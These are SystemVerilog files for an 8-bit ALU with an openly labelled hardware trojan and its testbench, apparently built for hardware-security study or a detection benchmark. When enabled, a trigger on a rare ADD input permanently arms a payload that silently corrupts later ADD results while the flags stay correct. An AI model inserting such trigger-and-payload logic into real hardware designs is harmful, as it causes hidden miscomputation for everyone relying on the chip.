// File: rtl/alu_8bit_pkg.sv
// Shared definitions for the 8-bit ALU and its trigger/payload block.
//   - Operation select encodings (2 bits).
//   - Default trigger operands, trigger count and payload XOR mask.
package alu_8bit_pkg;

  localparam logic [1:0] OP_ADD = 2'b00;
  localparam logic [1:0] OP_SUB = 2'b01;
  localparam logic [1:0] OP_AND = 2'b10;
  localparam logic [1:0] OP_OR  = 2'b11;

  localparam logic [7:0] DEF_TRIG_A       = 8'hFF;
  localparam logic [7:0] DEF_TRIG_B       = 8'hFF;
  localparam logic [7:0] DEF_TRIG_COUNT   = 8'd1;
  localparam logic [7:0] DEF_PAYLOAD_MASK = 8'h01;

endpackage

// File: rtl/alu_8bit_trigger.sv
// Trigger block: counts clock edges on which an ADD of the trigger operands
// is presented and raises a sticky armed flag once the count reaches
// TRIG_COUNT.
// Ports:
//   clk   in  1  rising-edge sampling clock
//   rst_n in  1  asynchronous active-low reset (clears count and armed)
//   A, B  in  8  operands
//   op    in  2  operation select
//   armed out 1  registered, sticky until reset
module alu_8bit_trigger
  import alu_8bit_pkg::*;
#(
  parameter logic [7:0] TRIG_A     = DEF_TRIG_A,
  parameter logic [7:0] TRIG_B     = DEF_TRIG_B,
  parameter logic [7:0] TRIG_COUNT = DEF_TRIG_COUNT
) (
  input  logic       clk,
  input  logic       rst_n,
  input  logic [7:0] A,
  input  logic [7:0] B,
  input  logic [1:0] op,
  output logic       armed
);

  logic [1:0] sync_q, sync_d;
  logic [7:0] count_q, count_d;
  logic       armed_q, armed_d;
  logic       hit;

  // Reset asserts asynchronously; sampling is only enabled once the
  // release has passed through two flops, so deassertion is synchronous.
  always_comb begin
    sync_d = {sync_q[0], 1'b1};
  end

  always_comb begin
    hit     = sync_q[1] && (op == OP_ADD) && (A == TRIG_A) && (B == TRIG_B);
    count_d = count_q;
    if (hit && (count_q != 8'hFF)) begin
      count_d = count_q + 8'd1;
    end
    // Armed follows the post-edge count so corruption starts right after
    // the capturing edge, and never clears without a reset.
    armed_d = armed_q || (count_d >= TRIG_COUNT);
  end

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      sync_q  <= 2'b00;
      count_q <= 8'd0;
      armed_q <= 1'b0;
    end else begin
      sync_q  <= sync_d;
      count_q <= count_d;
      armed_q <= armed_d;
    end
  end

  assign armed = armed_q;

endmodule

// File: rtl/alu_8bit_trojan.sv
// 8-bit combinational ALU (ADD/SUB/AND/OR) with carry, zero and overflow
// flags. With TROJAN_EN defined, a trigger block arms a payload that XORs
// the ADD result with PAYLOAD_MASK; carry/overflow keep the true sum and
// zero follows the delivered result. Without TROJAN_EN the ALU is clean and
// clk/rst_n are unused.
// Ports:
//   clk      in  1  trigger sampling clock
//   rst_n    in  1  asynchronous active-low reset of trigger state
//   A, B     in  8  operands
//   op       in  2  00 ADD, 01 SUB, 10 AND, 11 OR
//   result   out 8  ALU result
//   carry    out 1  ADD carry-out / SUB borrow
//   zero     out 1  result == 0
//   overflow out 1  signed overflow
module alu_8bit_trojan
  import alu_8bit_pkg::*;
#(
  parameter logic [7:0] TRIG_A       = DEF_TRIG_A,
  parameter logic [7:0] TRIG_B       = DEF_TRIG_B,
  parameter logic [7:0] TRIG_COUNT   = DEF_TRIG_COUNT,
  parameter logic [7:0] PAYLOAD_MASK = DEF_PAYLOAD_MASK
) (
  input  logic       clk,
  input  logic       rst_n,
  input  logic [7:0] A,
  input  logic [7:0] B,
  input  logic [1:0] op,
  output logic [7:0] result,
  output logic       carry,
  output logic       zero,
  output logic       overflow
);

  logic       armed;
  logic [8:0] sum_9;
  logic [8:0] diff_9;
  logic [7:0] clean_result;
  logic [7:0] result_int;

`ifdef TROJAN_EN
  alu_8bit_trigger #(
    .TRIG_A     (TRIG_A),
    .TRIG_B     (TRIG_B),
    .TRIG_COUNT (TRIG_COUNT)
  ) u_trigger (
    .clk   (clk),
    .rst_n (rst_n),
    .A     (A),
    .B     (B),
    .op    (op),
    .armed (armed)
  );
`else
  // Clean build: no trigger state; clock, reset and trigger settings are
  // intentionally left without loads.
  logic unused_ok;
  assign unused_ok = ^{clk, rst_n, TRIG_A, TRIG_B, TRIG_COUNT};
  assign armed     = 1'b0;
`endif

  always_comb begin
    sum_9        = {1'b0, A} + {1'b0, B};
    // Bit 8 of the 9-bit difference is the unsigned borrow (A < B).
    diff_9       = {1'b0, A} - {1'b0, B};
    clean_result = 8'h00;
    carry        = 1'b0;
    overflow     = 1'b0;
    case (op)
      OP_ADD: begin
        clean_result = sum_9[7:0];
        carry        = sum_9[8];
        overflow     = (A[7] == B[7]) && (sum_9[7] != A[7]);
      end
      OP_SUB: begin
        clean_result = diff_9[7:0];
        carry        = diff_9[8];
        overflow     = (A[7] != B[7]) && (diff_9[7] != A[7]);
      end
      OP_AND: clean_result = A & B;
      OP_OR:  clean_result = A | B;
      default: clean_result = 8'h00;
    endcase
    // Only the delivered ADD result is corrupted; flags above stay true.
    result_int = clean_result ^ ((armed && (op == OP_ADD)) ? PAYLOAD_MASK : 8'h00);
  end

  assign result = result_int;
  assign zero   = (result_int == 8'h00);

endmodule

// File: tb/tb_alu_8bit_trojan.sv
module tb_alu_8bit_trojan;

`ifdef TROJAN_EN
  localparam bit TROJAN = 1'b1;
`else
  localparam bit TROJAN = 1'b0;
`endif
  localparam int MASK = 1;

  logic       clk;
  logic       rst_n;
  logic [7:0] a_i, b_i;
  logic [1:0] op_i;
  logic [7:0] result;
  logic       carry, zero, overflow;

  int  vectors;
  int  miscompares;
  bit  model_armed;
  logic [10:0] exp_v;

  alu_8bit_trojan dut (
    .clk      (clk),
    .rst_n    (rst_n),
    .A        (a_i),
    .B        (b_i),
    .op       (op_i),
    .result   (result),
    .carry    (carry),
    .zero     (zero),
    .overflow (overflow)
  );

  // Clock / reset
  initial clk = 1'b0;
  always #5 clk = ~clk;

  // Reference model: {result, carry, zero, overflow} from plain integer math.
  function automatic logic [10:0] ref_alu(input int a, input int b, input int op, input bit armed);
    int sa, sb, s, r, c, ov;
    logic [7:0] r8;
    sa = (a >= 128) ? a - 256 : a;
    sb = (b >= 128) ? b - 256 : b;
    r = 0; c = 0; ov = 0;
    case (op)
      0: begin
        s  = a + b;  r = s % 256;  c = (s > 255) ? 1 : 0;
        s  = sa + sb; ov = (s < -128 || s > 127) ? 1 : 0;
      end
      1: begin
        r  = (a - b + 256) % 256; c = (a < b) ? 1 : 0;
        s  = sa - sb; ov = (s < -128 || s > 127) ? 1 : 0;
      end
      2: r = a & b;
      default: r = a | b;
    endcase
    if (armed && op == 0) r = r ^ MASK;
    r8 = r[7:0];
    return {r8, c[0], (r == 0), ov[0]};
  endfunction

  // Driver tasks
  task automatic drive(input logic [7:0] a, input logic [7:0] b, input logic [1:0] op);
    a_i = a; b_i = b; op_i = op;
    #2;
  endtask

  // One full cycle from a negedge to the next; the model sees the same
  // inputs the DUT samples on the rising edge.
  task automatic tick();
    @(posedge clk);
    if (TROJAN && rst_n && op_i == 2'b00 && a_i == 8'hFF && b_i == 8'hFF) model_armed = 1'b1;
    @(negedge clk);
  endtask

  task automatic do_reset();
    @(negedge clk);
    rst_n = 1'b0;
    model_armed = 1'b0;
    drive(8'h00, 8'h00, 2'b10);
    tick();
    rst_n = 1'b1;
    // Let the synchronized release settle before any trigger sample.
    repeat (3) tick();
  endtask

  task automatic test_reset();
    @(negedge clk);
    rst_n = 1'b0;
    model_armed = 1'b0;
    drive(8'h12, 8'h34, 2'b00);
    exp_v = ref_alu(8'h12, 8'h34, 0, 1'b0);
    if ({result, carry, zero, overflow} !== exp_v || result !== 8'h46) begin
      $display("FAIL reset_add: got %h/%b%b%b want %h", result, carry, zero, overflow, exp_v);
      miscompares++;
    end
    vectors++;
    tick();
    rst_n = 1'b1;
    repeat (3) tick();
  endtask

  task automatic test_add();
    logic [7:0] ta [4] = '{8'h12, 8'h7F, 8'hFF, 8'h80};
    logic [7:0] tb [4] = '{8'h34, 8'h01, 8'h01, 8'h80};
    for (int i = 0; i < 4; i++) begin
      drive(ta[i], tb[i], 2'b00);
      exp_v = ref_alu(ta[i], tb[i], 0, model_armed);
      if ({result, carry, zero, overflow} !== exp_v) begin
        $display("FAIL add_%0d: got %h c%b z%b v%b want %h", i, result, carry, zero, overflow, exp_v);
        miscompares++;
      end
      vectors++;
      tick();
    end
  endtask

  task automatic test_sub();
    logic [7:0] ta [4] = '{8'hFF, 8'h00, 8'h80, 8'h05};
    logic [7:0] tb [4] = '{8'h01, 8'h01, 8'h01, 8'h05};
    for (int i = 0; i < 4; i++) begin
      drive(ta[i], tb[i], 2'b01);
      exp_v = ref_alu(ta[i], tb[i], 1, model_armed);
      if ({result, carry, zero, overflow} !== exp_v) begin
        $display("FAIL sub_%0d: got %h c%b z%b v%b want %h", i, result, carry, zero, overflow, exp_v);
        miscompares++;
      end
      vectors++;
      tick();
    end
  endtask

  task automatic test_logic();
    for (int op = 2; op < 4; op++) begin
      drive(8'hAA, 8'h55, op[1:0]);
      exp_v = ref_alu(8'hAA, 8'h55, op, model_armed);
      if ({result, carry, zero, overflow} !== exp_v) begin
        $display("FAIL logic_op%0d: got %h c%b z%b v%b want %h", op, result, carry, zero, overflow, exp_v);
        miscompares++;
      end
      vectors++;
      tick();
    end
  endtask

  task automatic test_trigger();
    // Before the capturing edge: never corrupted.
    drive(8'hFF, 8'hFF, 2'b00);
    exp_v = ref_alu(8'hFF, 8'hFF, 0, model_armed);
    if ({result, carry, zero, overflow} !== exp_v || result !== 8'hFE) begin
      $display("FAIL trig_pre_edge: got %h c%b want %h", result, carry, exp_v);
      miscompares++;
    end
    vectors++;
    // Hold the trigger over several edges.
    for (int i = 0; i < 4; i++) begin
      tick();
      #2;
      exp_v = ref_alu(8'hFF, 8'hFF, 0, model_armed);
      if ({result, carry, zero, overflow} !== exp_v) begin
        $display("FAIL trig_post_edge_%0d: got %h c%b z%b want %h", i, result, carry, zero, exp_v);
        miscompares++;
      end
      vectors++;
    end
    drive(8'h00, 8'h00, 2'b00);
    exp_v = ref_alu(0, 0, 0, model_armed);
    if ({result, carry, zero, overflow} !== exp_v) begin
      $display("FAIL trig_add_zero: got %h z%b want %h", result, zero, exp_v);
      miscompares++;
    end
    vectors++;
    drive(8'h05, 8'h05, 2'b01);
    exp_v = ref_alu(5, 5, 1, model_armed);
    if ({result, carry, zero, overflow} !== exp_v) begin
      $display("FAIL trig_sub_clean: got %h z%b want %h", result, zero, exp_v);
      miscompares++;
    end
    vectors++;
    tick();
  endtask

  task automatic test_reset_mid_armed();
    drive(8'h00, 8'h00, 2'b00);
    #1 rst_n = 1'b0;
    model_armed = 1'b0;
    #1;
    exp_v = ref_alu(0, 0, 0, model_armed);
    if ({result, carry, zero, overflow} !== exp_v || result !== 8'h00) begin
      $display("FAIL rst_mid_armed: got %h z%b want %h", result, zero, exp_v);
      miscompares++;
    end
    vectors++;
    rst_n = 1'b1;
    for (int i = 0; i < 4; i++) begin
      tick();
      #2;
      exp_v = ref_alu(0, 0, 0, model_armed);
      if ({result, carry, zero, overflow} !== exp_v) begin
        $display("FAIL rst_stays_off_%0d: got %h want %h", i, result, exp_v);
        miscompares++;
      end
      vectors++;
    end
    // Re-arm with a fresh trigger sample.
    drive(8'hFF, 8'hFF, 2'b00);
    tick();
    drive(8'h00, 8'h00, 2'b00);
    exp_v = ref_alu(0, 0, 0, model_armed);
    if ({result, carry, zero, overflow} !== exp_v) begin
      $display("FAIL rearm: got %h want %h", result, exp_v);
      miscompares++;
    end
    vectors++;
    tick();
  endtask

  task automatic test_random();
    logic [7:0] ra, rb;
    do_reset();
    for (int op = 0; op < 4; op++) begin
      for (int i = 0; i < 256; i++) begin
        ra = 8'($urandom_range(0, 255));
        rb = 8'($urandom_range(0, 255));
        drive(ra, rb, op[1:0]);
        exp_v = ref_alu(ra, rb, op, model_armed);
        if ({result, carry, zero, overflow} !== exp_v) begin
          $display("FAIL rand_op%0d: A=%h B=%h got %h c%b z%b v%b want %h", op, ra, rb, result, carry, zero, overflow, exp_v);
          miscompares++;
        end
        vectors++;
        if ((i % 16) == 0) tick();
        else @(negedge clk);
      end
    end
  endtask

  initial begin
    vectors = 0;
    miscompares = 0;
    model_armed = 1'b0;
    rst_n = 1'b1;
    a_i = 8'h00; b_i = 8'h00; op_i = 2'b10;
    test_reset();
    test_add();
    test_sub();
    test_logic();
    test_trigger();
    test_reset_mid_armed();
    test_random();
    $display("== %0d vectors applied, %0d miscompares ==", vectors, miscompares);
    $finish;
  end

endmodule
